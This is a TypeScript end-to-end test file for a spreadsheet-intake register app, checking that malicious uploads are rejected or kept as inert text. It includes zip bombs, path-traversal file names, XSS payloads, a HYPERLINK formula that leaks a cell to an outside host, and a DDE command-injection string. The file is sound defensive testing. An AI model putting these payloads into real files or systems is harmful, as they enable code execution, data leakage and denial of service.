import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { returnsTexts } from '../../renderer/lib/texts/returns.ts';
import { makeWorkbook, sheetXml } from '../integration/support/make-workbook.ts';
import { makeZip } from '../integration/support/make-zip.ts';
import { expect, test } from './support/door.ts';
import { dropOnWindow, sample, textFile, type UserFile } from './support/files.ts';
import { sheetOf } from './support/review.ts';
import {
  expectActivityCount,
  expectNoActivities,
  fileLink,
  fileList,
  goToScreen,
  openFile,
  panel,
  receive,
  startRegister,
  takeIn,
  takeInButton,
  toldToast,
} from './support/user.ts';
import { allCells, exportWorkbook } from './support/workbook.ts';

const megabyte = 1024 * 1024;
/** Random enough, and the same each time. */
const noise = (length: number): Buffer =>
  Buffer.from(Array.from({ length }, (_, index) => (Math.imul(index + 7, 2_654_435_761) >>> 13) & 0xff));
const bomb = (): Buffer =>
  makeWorkbook({ sheet: Buffer.concat([Buffer.from(sheetXml('')), Buffer.alloc(100 * megabyte, ' ')]) });

test('nothing that is dropped ends the process or touches the register', async ({ page, door }) => {
  const files: readonly UserFile[] = [
    { name: 'noll.xlsx', bytes: Buffer.alloc(0) },
    { name: 'brus.xlsx', bytes: noise(5_000) },
    { name: 'brus.csv', bytes: noise(5_000) },
    { name: 'bomb.xlsx', bytes: bomb() },
    {
      name: 'bomber.zip',
      bytes: makeZip([{ name: 'inre.zip', data: makeZip([{ name: 'bomb.xlsx', data: bomb() }]) }]),
    },
    { name: '../../../../utanfor.xlsx', bytes: noise(100) },
    { name: 'klättrar.zip', bytes: makeZip([{ name: '../../utanfor.xlsx', data: noise(100) }]) },
    { name: `${'långt namn '.repeat(40)}.xlsx`, bytes: noise(100) },
    { name: '<img src=x onerror=alert(1)>.xlsx', bytes: noise(100) },
  ];
  await startRegister(page, door);
  await goToScreen(page, 'returns');
  await dropOnWindow(page, files);
  await toldToast(page, returnsTexts.receivedNone);
  for (const name of ['noll.xlsx', 'brus.xlsx', 'bomb.xlsx', 'utanfor.xlsx', '<img src=x onerror=alert(1)>.xlsx']) {
    await expect(fileLink(page, name).first()).toContainText(returnsTexts.outcome.rejected);
  }
  await expectNoActivities(page);
  expect(door.isRunning()).toBe(true);
  expect(filesNamed(join(door.registersFolder, '..'), 'utanfor')).toEqual([]);

  // The process still does its work.
  await receive(page, [sample('RESORT.xlsx')]);
  await openFile(page, 'RESORT.xlsx');
  await takeIn(page);
  await expectActivityCount(page, 2);
});

/** Files anywhere below a folder whose names contain a text. */
function filesNamed(folder: string, text: string): readonly string[] {
  if (!existsSync(folder)) throw new Error(`${folder} is missing`);
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => name.includes(text));
}

test('what looks like script or formula in a cell stays text on every screen and in the workbook', async ({
  page,
  door,
}) => {
  const script = '<img src=x onerror="window.hacked=true">Kurs';
  const formula = '=HYPERLINK("http://example.invalid/?"&A1,"Språkcafé")';
  const plus = "+cmd|' /C calc'!A0";
  const workbook = new ExcelJS.Workbook();
  workbook.addWorksheet('<b>Blad').addRows([
    ['Verksamhet:', 'Räddningstjänsten'],
    ['Insats', 'Fokusområde', 'Målindikator', 'Status', 'Resultat', 'Antal deltagare'],
    [script, 'Språkutveckling', 'SU 4', 'Pågår', '<script>window.hacked=true</script>', 4],
    [formula, 'Språkutveckling', 'SU 4', 'Pågår', plus, 5],
  ]);
  const file = { name: 'elak.xlsx', bytes: new Uint8Array(await workbook.xlsx.writeBuffer()) };
  let dialogs = 0;
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await startRegister(page, door);
  await receive(page, [file]);
  await openFile(page, file.name);
  await expect(sheetOf(page).getByRole('cell', { name: script })).toBeVisible();
  await sheetOf(page).getByText(script).click();
  await expect(panel(page).getByRole('heading', { name: script })).toBeVisible();
  await takeIn(page);
  await goToScreen(page, 'activities');
  for (const title of [script, formula]) await expect(page.getByRole('row').filter({ hasText: title })).toBeVisible();
  await page.getByRole('row').filter({ hasText: script }).click();
  await expect(panel(page).getByRole('heading', { name: script })).toBeVisible();

  await goToScreen(page, 'followUp');
  const cells = allCells(await exportWorkbook(page));
  for (const text of [script, formula, plus]) {
    const told = cells.filter((cell) => cell.text === text);
    expect(told.length, text).toBeGreaterThan(0);
    expect(told.map((cell) => cell.type)).toEqual(told.map(() => ExcelJS.ValueType.String));
  }
  expect(cells.filter((cell) => cell.formula?.includes('HYPERLINK'))).toEqual([]);
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false);
  expect(dialogs).toBe(0);
});

test('sixty files at once are all read, and none is taken in by itself', async ({ page, door }) => {
  const files = Array.from({ length: 60 }, (_, index) =>
    textFile(
      `svar ${index + 1}.csv`,
      `Verksamhet;Räddningstjänsten\r\n\r\nInsats;Fokusområde;Målindikator;Status;Antal deltagare\r\nTräff nummer ${index + 1} i ${places[index % places.length]};Språkutveckling;SU 4;Pågår;${index + 1}\r\n`,
    ),
  );
  await startRegister(page, door);
  await receive(page, files);
  await expect(fileList(page).getByRole('link')).toHaveCount(60);
  await expect(takeInButton(page)).toBeVisible();
  expect(door.isRunning()).toBe(true);
  await expectNoActivities(page);
});

const places = ['Gamleby', 'Ankarsrum', 'Överum', 'Loftahammar'];
